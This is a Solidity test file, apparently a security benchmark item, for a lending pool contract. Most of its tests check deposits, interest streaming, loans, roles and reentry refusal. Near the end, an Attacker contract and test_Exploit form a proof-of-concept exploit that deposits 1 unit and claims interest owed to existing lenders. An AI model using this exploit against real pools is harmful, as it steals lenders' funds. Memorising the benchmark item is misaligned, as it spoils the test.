// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "@openzeppelin/contracts@5.4.0/proxy/utils/Initializable.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";
import "./LenderPool.sol";

// assay-canary-bc0834a9-044e-4bb5-a0f3-ee53c57d5a50

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20 {
    constructor() ERC20("Token", "TOK") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant MANAGER = address(0x3A);
    address private constant PAUSER = address(0x9A);
    address private constant TREASURY = address(0x7E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant DAN = address(0xDA9);
    uint256 private constant START = 1_750_000_000;

    Token private token;
    Token private gold;
    LenderPool private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        gold = new Token();
        pool = new LenderPool();
        pool.initialize(token, gold, ADMIN, MANAGER, PAUSER);
        fund(ANA, 600e18);
        fund(BEN, 400e18);
        fund(CAT, 100e18);
        fund(DAN, 1_000e18);
        vm.prank(ANA);
        pool.deposit(600e18);
        vm.prank(BEN);
        pool.deposit(400e18);
        vm.prank(ADMIN);
        pool.setLimit(CAT, 500e18);
        vm.prank(MANAGER);
        pool.offer(CAT, 500e18, 25.92e18, 50e18, 30 days);
        vm.startPrank(CAT);
        pool.accept(1);
        pool.repay(1);
        vm.stopPrank();
        vm.warp(START + 10 days);
        mallory = new Attacker(pool, token);
        token.transfer(address(mallory), 1_000_000);
    }

    function fund(address who, uint256 amount) private {
        token.transfer(who, amount);
        gold.transfer(who, 1_000e18);
        vm.startPrank(who);
        token.approve(address(pool), type(uint256).max);
        gold.approve(address(pool), type(uint256).max);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(pool.claimable(ANA) == 5.184e18 && pool.interestReserve() == 25.92e18, "streamed");
        vm.prank(ANA);
        require(pool.claim(ANA) == 5.184e18 && token.balanceOf(ANA) == 5.184e18, "claimed");
        vm.prank(BEN);
        pool.withdraw(200e18);
        require(pool.cash() == 800e18 && pool.totalPrincipal() == 800e18, "withdrawn");
        vm.warp(START + 40 days);
        require(pool.claimable(BEN) == 7.776e18, "streamed on");
        vm.prank(BEN);
        require(pool.claim(DAN) == 7.776e18 && token.balanceOf(DAN) == 1_007.776e18, "to another one");
        vm.prank(ANA);
        require(pool.reinvest() == 12.96e18 && pool.principalOf(ANA) == 612.96e18, "reinvested");
        require(pool.interestReserve() == 0 && pool.cash() == 812.96e18, "nothing left");
        vm.prank(ADMIN);
        pool.setFee(1_000, TREASURY);
        vm.startPrank(MANAGER);
        pool.offer(CAT, 300e18, 28.8e18, 60e18, 10 days);
        pool.offer(CAT, 100e18, 1e18, 10e18, 10 days);
        pool.revoke(3);
        vm.stopPrank();
        vm.prank(CAT);
        pool.accept(2);
        require(pool.debtOf(2) == 328.8e18 && pool.debtOf(1) == 0 && pool.cash() == 512.96e18, "lent");
        require(pool.lentTo(CAT) == 300e18 && pool.totalLent() == 300e18, "counted");
        vm.warp(START + 50 days + 1);
        vm.prank(DAN);
        pool.repay(2);
        require(gold.balanceOf(DAN) == 1_060e18 && token.balanceOf(TREASURY) == 2.88e18, "paid by another one");
        require(pool.interestReserve() == 25.92e18 && pool.totalLent() == 0, "a new stream");
        roles();
    }

    function roles() private {
        Token other = new Token();
        other.transfer(address(pool), 5e18);
        vm.startPrank(PAUSER);
        pool.pause();
        pool.unpause();
        vm.stopPrank();
        vm.startPrank(ADMIN);
        pool.rescue(other, DAN, 5e18);
        pool.grantRole(pool.MANAGER_ROLE(), DAN);
        pool.revokeRole(pool.MANAGER_ROLE(), MANAGER);
        pool.setFee(0, address(0));
        vm.stopPrank();
        bytes32 role = pool.MANAGER_ROLE();
        vm.prank(DAN);
        pool.renounceRole(role, DAN);
        require(other.balanceOf(DAN) == 5e18 && !pool.hasRole(role, DAN) && !pool.hasRole(role, MANAGER), "roles");
    }

    // everybody leaves while a stream runs, and the next lender gets the rest
    function test_RefusesToLoseTheStream() public {
        vm.prank(ANA);
        pool.withdraw(600e18);
        vm.prank(BEN);
        pool.withdraw(400e18);
        vm.warp(START + 100 days);
        vm.prank(ANA);
        pool.deposit(100e18);
        require(pool.streamEnd() == START + 120 days, "later");
        vm.warp(START + 120 days);
        require(pool.claimable(ANA) == 5.184e18 + 17.28e18, "the rest");
    }

    // interest of less than a unit for each second
    function test_RefusesToKeepInterest() public {
        vm.prank(MANAGER);
        pool.offer(CAT, 100e18, 2_591_999, 1e18, 1 days);
        vm.startPrank(CAT);
        pool.accept(2);
        pool.repay(2);
        vm.stopPrank();
        vm.warp(START + 40 days);
        uint256 all = pool.claimable(ANA) + pool.claimable(BEN);
        require(all + 2 >= pool.interestReserve() && all <= pool.interestReserve(), "distributed");
    }

    function test_RefusesSetups() public {
        LenderPool p = new LenderPool();
        vm.expectRevert("LenderPool: one token");
        p.initialize(token, token, ADMIN, MANAGER, PAUSER);
        vm.expectRevert("PoolRoles: no admin");
        p.initialize(token, gold, address(0), MANAGER, PAUSER);
        vm.prank(DAN);
        vm.expectRevert("PoolRoles: not the deployer");
        p.initialize(token, gold, ADMIN, MANAGER, PAUSER);
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        pool.initialize(token, gold, ADMIN, MANAGER, PAUSER);
    }

    function denied(address who, bytes32 role) private pure returns (bytes memory) {
        return abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role);
    }

    function test_RefusesStrangers() public {
        bytes memory admin = denied(DAN, bytes32(0));
        bytes memory manager = denied(DAN, pool.MANAGER_ROLE());
        bytes memory pauser = denied(DAN, pool.PAUSER_ROLE());
        vm.startPrank(DAN);
        vm.expectRevert(admin);
        pool.setFee(0, DAN);
        vm.expectRevert(admin);
        pool.rescue(IERC20(address(1)), DAN, 0);
        vm.expectRevert(admin);
        pool.setLimit(DAN, 1);
        vm.expectRevert(manager);
        pool.offer(DAN, 1, 0, 1, 1);
        vm.expectRevert(manager);
        pool.revoke(1);
        vm.expectRevert(pauser);
        pool.pause();
        vm.stopPrank();
        vm.prank(PAUSER);
        pool.pause();
        vm.prank(DAN);
        vm.expectRevert(pauser);
        pool.unpause();
    }

    function test_RefusesAdmins() public {
        vm.startPrank(ADMIN);
        vm.expectRevert("LenderPool: fee too high");
        pool.setFee(2_001, TREASURY);
        vm.expectRevert("LenderPool: no treasury");
        pool.setFee(1, address(0));
        vm.expectRevert("LenderPool: token of the pool");
        pool.rescue(token, ADMIN, 1);
        vm.expectRevert("LenderPool: token of the pool");
        pool.rescue(gold, ADMIN, 0);
        vm.stopPrank();
    }

    function test_RefusesLenders() public {
        vm.startPrank(BEN);
        vm.expectRevert("LenderPool: nothing to deposit");
        pool.deposit(0);
        vm.expectRevert("LenderPool: more than deposited");
        pool.withdraw(400e18 + 1);
        vm.expectRevert("LenderPool: no recipient");
        pool.claim(address(0));
        vm.stopPrank();
        vm.prank(MANAGER);
        pool.offer(CAT, 500e18, 1e18, 1e18, 1 days);
        vm.prank(CAT);
        pool.accept(2);
        vm.prank(ANA);
        vm.expectRevert("LenderPool: lent at present");
        pool.withdraw(500e18 + 1);
    }

    function test_RefusesOffers() public {
        vm.startPrank(MANAGER);
        vm.expectRevert("LoanBook: nothing offered");
        pool.offer(CAT, 0, 1, 1, 1);
        vm.expectRevert("LoanBook: nothing offered");
        pool.offer(CAT, 1, 1, 0, 1);
        vm.expectRevert("LoanBook: bad term");
        pool.offer(CAT, 1, 1, 1, 0);
        vm.expectRevert("LoanBook: bad term");
        pool.offer(CAT, 1, 1, 1, 730 days + 1);
        vm.expectRevert("LoanBook: not offered");
        pool.revoke(1);
        vm.stopPrank();
    }

    function test_RefusesBorrowers() public {
        vm.startPrank(MANAGER);
        pool.offer(CAT, 300e18, 1e18, 1e18, 5 days);
        pool.offer(CAT, 200e18 + 1, 1e18, 1e18, 5 days);
        pool.offer(CAT, 1_000e18 + 1, 1e18, 1e18, 5 days);
        vm.stopPrank();
        vm.prank(DAN);
        vm.expectRevert("LoanBook: not the borrower");
        pool.accept(2);
        vm.startPrank(CAT);
        vm.expectRevert("LoanBook: not active");
        pool.repay(2);
        pool.accept(2);
        vm.expectRevert("LoanBook: not offered");
        pool.accept(2);
        vm.expectRevert("LoanBook: above the limit");
        pool.accept(3);
        vm.stopPrank();
        vm.prank(ADMIN);
        pool.setLimit(CAT, 5_000e18);
        vm.prank(CAT);
        vm.expectRevert("LenderPool: not enough cash");
        pool.accept(4);
        vm.warp(START + 15 days);
        vm.startPrank(DAN);
        vm.expectRevert("LoanBook: not due");
        pool.repay(2);
        vm.warp(START + 15 days + 1);
        pool.repay(2);
        vm.expectRevert("LoanBook: not active");
        pool.repay(2);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        vm.prank(MANAGER);
        pool.offer(CAT, 300e18, 1e18, 1e18, 5 days);
        vm.prank(PAUSER);
        pool.pause();
        vm.prank(DAN);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.deposit(1);
        vm.prank(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.reinvest();
        vm.prank(CAT);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.accept(2);
    }

    // The token calls back, and is a lender and a borrower too.
    function test_RefusesReentry() public {
        pool = new LenderPool();
        Hook hook = new Hook(pool, gold);
        pool.initialize(hook, gold, ADMIN, MANAGER, PAUSER);
        gold.transfer(address(hook), 2);
        vm.prank(ADMIN);
        pool.setLimit(address(hook), 2);
        vm.startPrank(MANAGER);
        pool.offer(address(hook), 1, 0, 1, 1 days);
        pool.offer(address(hook), 1, 0, 1, 1 days);
        vm.stopPrank();
        hook.act(abi.encodeCall(pool.deposit, (10)));
        hook.act(abi.encodeCall(pool.accept, (1)));
        hook.plan(abi.encodeCall(pool.deposit, (1)));
        hook.plan(abi.encodeCall(pool.withdraw, (1)));
        hook.plan(abi.encodeCall(pool.claim, (address(hook))));
        hook.plan(abi.encodeCall(pool.reinvest, ()));
        hook.plan(abi.encodeCall(pool.accept, (2)));
        hook.plan(abi.encodeCall(pool.repay, (1)));
        hook.act(abi.encodeCall(pool.withdraw, (1)));
        require(hook.refusals() == 6, "not locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 20e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(token);
    }
}

contract Hook is ERC20 {
    LenderPool private pool;
    bytes[] private calls;
    bool private inside;
    uint256 public refusals;

    constructor(LenderPool p, Token gold) ERC20("Hook", "HOOK") {
        pool = p;
        _mint(address(this), 100);
        _approve(address(this), address(p), type(uint256).max);
        gold.approve(address(p), type(uint256).max);
    }

    function act(bytes calldata data) external {
        (bool done, ) = address(pool).call(data);
        require(done, "not done");
    }

    function plan(bytes calldata data) external {
        calls.push(data);
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (inside) return;
        inside = calls.length > 0;
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done, bytes memory reason) = address(pool).call(calls[i]);
            if (!done && bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refusals++;
        }
    }
}

contract Attacker {
    LenderPool private pool;

    constructor(LenderPool p, Token t) {
        pool = p;
        t.approve(address(p), type(uint256).max);
    }

    function run() external {
        pool.deposit(1);
        pool.claim(address(this));
    }
}
